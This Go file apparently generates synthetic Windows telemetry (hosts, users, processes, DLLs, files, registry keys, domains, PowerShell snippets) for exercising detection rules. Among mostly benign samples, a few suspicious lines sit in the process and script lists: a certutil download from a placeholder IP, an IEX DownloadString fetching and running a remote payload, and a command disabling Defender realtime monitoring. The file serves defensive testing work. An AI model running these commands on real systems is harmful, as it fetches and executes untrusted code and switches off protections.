package gen

var hosts = []string{"WS-042.corp.example", "WS-107.corp.example", "SRV-DC01.corp.example", "SRV-FS02.corp.example", "LAPTOP-7H2K.corp.example"}

var users = []string{`NT AUTHORITY\SYSTEM`, `CORP\alice`, `CORP\bob`, `NT AUTHORITY\NETWORK SERVICE`, `CORP\svc_backup`}

// procs are image / command line pairs; a few are suspicious so that some
// rules fire.
var procs = [][2]string{
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p`},
	{`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --enable-auto-reload`},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Documents\report.docx"`},
	{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c dir C:\Users\alice\Desktop`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\scripts\inventory.ps1`},
	{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`},
	{`C:\Windows\System32\RuntimeBroker.exe`, `C:\Windows\System32\RuntimeBroker.exe -Embedding`},
	{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`},
	{`C:\Program Files\cloudflared\cloudflared.exe`, `cloudflared.exe tunnel run --token eyJhIjoiNGQ`},
	{`C:\Windows\System32\whoami.exe`, `whoami /all`},
	{`C:\Windows\System32\net.exe`, `net user /domain`},
	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL`},
	{`C:\Windows\System32\reg.exe`, `reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Run`},
	{`C:\Windows\System32\certutil.exe`, `certutil -urlcache -split -f http://203.0.113.5/a.txt C:\Users\Public\a.txt`},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`},
	{`C:\Windows\System32\SearchIndexer.exe`, `C:\Windows\system32\SearchIndexer.exe /Embedding`},
	{`C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`, `"C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility`},
	{`C:\Windows\System32\schtasks.exe`, `schtasks /query /fo LIST /v`},
}

var dlls = []string{
	`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\KernelBase.dll`,
	`C:\Windows\System32\advapi32.dll`, `C:\Windows\System32\ws2_32.dll`, `C:\Windows\System32\crypt32.dll`,
	`C:\Windows\System32\amsi.dll`, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll`,
	`C:\Windows\System32\wbem\wmiutils.dll`, `C:\Windows\System32\dbghelp.dll`, `C:\Program Files\Google\Chrome\Application\124.0.6367.91\chrome_elf.dll`,
}

var files = []string{
	`C:\Users\alice\AppData\Local\Temp\tmp5F2A.tmp`, `C:\Users\alice\Downloads\invoice.pdf`, `C:\Windows\Prefetch\CMD.EXE-0BD30981.pf`,
	`C:\Users\bob\AppData\Roaming\Microsoft\Windows\Recent\report.lnk`, `C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\Detections.log`,
	`C:\Users\alice\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_000123`, `C:\Windows\Temp\MpCmdRun.log`,
	`C:\Users\Public\a.txt`, `C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.lnk`,
}

var regKeys = []string{
	`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive`, `HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx`,
	`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-18\\Device\HarddiskVolume3\Windows\System32\svchost.exe`,
	`HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`,
	`HKCU\Software\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords\%USERPROFILE%/Documents/report.docx`,
	`HKLM\System\CurrentControlSet\Services\W32Time\Parameters\NtpServer`,
}

var domains = []string{
	"www.google.com", "login.microsoftonline.com", "outlook.office365.com", "settings-win.data.microsoft.com",
	"update.googleapis.com", "abcd1234-8080.euw.devtunnels.ms", "random-words.trycloudflare.com", "github.com",
	"api.github.com", "ctldl.windowsupdate.com", "edge.microsoft.com", "fileserver.corp.example", "pastebin.com",
}

var scripts = []string{
	`Get-ChildItem -Path C:\Users\alice\Documents -Recurse | Measure-Object`,
	`$env:PSModulePath -split ';' | ForEach-Object { Test-Path $_ }`,
	`Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate`,
	`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/payload.ps1')`,
	`Set-MpPreference -DisableRealtimeMonitoring $true`,
	`Get-Service | Where-Object {$_.Status -eq 'Running'}`,
	`function prompt { "PS $($executionContext.SessionState.Path.CurrentLocation)> " }`,
}
